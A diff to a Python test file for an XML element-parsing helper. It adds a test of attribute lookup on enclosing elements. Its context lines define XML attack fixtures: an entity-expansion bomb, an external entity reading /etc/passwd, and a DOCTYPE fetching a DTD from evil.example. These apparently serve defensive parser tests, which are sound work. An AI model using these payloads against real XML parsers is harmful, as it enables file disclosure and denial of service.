@@ -26,6 +26,13 @@ def test_wanted_elements_come_whole_and_without_prefixes() -> None:
     assert [found.text for found in item.below("e", "f")] == ["two"]
 
 
+def test_attributes_of_what_is_around_are_known() -> None:
+    """Those of the innermost of a name."""
+    (item,) = elements('<u n="1"><u n="2"><v><c/></v></u></u>', "c")
+
+    assert (item.outer("u", "n"), item.outer("u", "m"), item.outer("w", "n")) == ("2", "", "")
+
+
 BOMB = '<!DOCTYPE a [<!ENTITY x "ha"><!ENTITY y "&x;&x;&x;&x;">]><a>&y;</a>'
 EXTERNAL = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
 PARAMETER = '<!DOCTYPE a SYSTEM "http://evil.example/x.dtd"><a/>'
